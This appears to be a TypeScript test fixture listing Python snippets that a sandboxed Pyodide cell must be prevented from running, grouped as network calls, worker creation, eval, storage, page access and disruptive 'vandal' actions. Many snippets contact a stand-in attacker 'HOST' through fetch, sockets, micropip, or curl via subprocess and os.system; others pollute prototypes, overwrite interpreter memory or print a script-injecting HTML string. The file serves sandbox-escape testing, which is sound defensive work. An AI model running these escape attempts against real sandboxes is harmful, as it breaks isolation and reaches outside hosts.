/** What a Python cell must not be able to do, as its code. It prints `reached` where it succeeds; HOST is the attacker's. */

const network = {
  'js.fetch': `import js\njs.fetch('http://HOST/')`,
  'js.XMLHttpRequest': `import js\nr = js.XMLHttpRequest.new()\nr.open('GET', 'http://HOST/', False)\nr.send()`,
  'js.WebSocket': `import js\njs.WebSocket.new('ws://HOST/')`,
  'js.EventSource': `import js\njs.EventSource.new('http://HOST/')`,
  'js.importScripts': `import js\njs.importScripts('http://HOST/')`,
  'js.navigator': `import js\njs.navigator.sendBeacon('http://HOST/')`,
  open_url: `from pyodide.http import open_url\nopen_url('http://HOST/')`,
  urllib: `import urllib.request\nurllib.request.urlopen('http://HOST/', timeout=2)`,
  'http.client': `import http.client\nc = http.client.HTTPConnection('HOST', timeout=2)\nc.request('GET', '/')\nc.getresponse()`,
  'a socket': `import socket\nhost, port = 'HOST'.split(':')\nsocket.create_connection((host, int(port)), timeout=2)`,
  micropip: `import micropip\nmicropip.install('http://HOST/x-1-py3-none-any.whl')`,
  'another program': `import subprocess\nsubprocess.run(['curl', 'http://HOST/'], check=True)`,
  'a shell': `import os\nif os.system('curl http://HOST/') != 0: raise OSError`,
} satisfies Record<string, string>

const workers = {
  'js.Worker': `import js\njs.Worker.new('http://HOST/')`,
  'a module from a blob': `import js\njs.URL.createObjectURL(js.Blob.new(['1']))`,
  'js.WebAssembly': `import js\njs.WebAssembly.Memory.new({'initial': 1})`,
} satisfies Record<string, string>

const text = {
  'js.eval': `import js\njs.eval('1')`,
  'js.Function': `import js\njs.Function.new('return 1')()`,
  'the constructor of a function': `import js\njs.setTimeout.constructor('return 1')()`,
  run_js: `from pyodide.code import run_js\nrun_js('1')`,
} satisfies Record<string, string>

const storage = {
  'js.indexedDB': `import js\njs.indexedDB.open('x')`,
  'js.caches': `import js\njs.caches.open('x')`,
  'js.localStorage': `import js\njs.localStorage.setItem('x', '1')`,
} satisfies Record<string, string>

const page = {
  'js.postMessage': `import js\njs.postMessage('[]')`,
  'js.close': `import js\njs.close()`,
  'js.parent': `import js\njs.parent.document`,
  'js.document': `import js\njs.document.title`,
  'js.BroadcastChannel': `import js\njs.BroadcastChannel.new('x').postMessage('x')`,
} satisfies Record<string, string>

export const pythonAttempts: Record<string, string> = { ...network, ...workers, ...text, ...storage, ...page }

/** What ends later than the cell does, or does no more than harm its own worker: it is seen elsewhere that nothing came of it. */
export const pythonVandals: Record<string, string> = {
  'loads a package from elsewhere': `import pyodide_js\npyodide_js.loadPackage('http://HOST/x-1-py3-none-any.whl')`,
  'fetches in a task': `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch('http://HOST/'))`,
  'writes to a disk': `import pathlib\nfor i in range(100): pathlib.Path(f'/tmp/{i}').write_text('x')`,
  'takes over print and the engine': `import builtins, torch\nbuiltins.print = lambda *a: None\ntorch.tensor = None\nbuiltins.__import__ = None`,
  'takes over what events are sent with': `import js\njs.JSON.stringify = None\njs.MessagePort.prototype.postMessage = None`,
  'pollutes the prototypes': `import js\njs.Object.prototype.polluted = 1\njs.Array.prototype.toJSON = lambda *a: [{'type': 'display'}]`,
  'writes over the memory of its interpreter': `import pyodide_js\npyodide_js._module.HEAPU8.fill(7)`,
  'prints a page': `print('<img src="http://HOST/"><script>document.title = "taken"</script>')`,
}
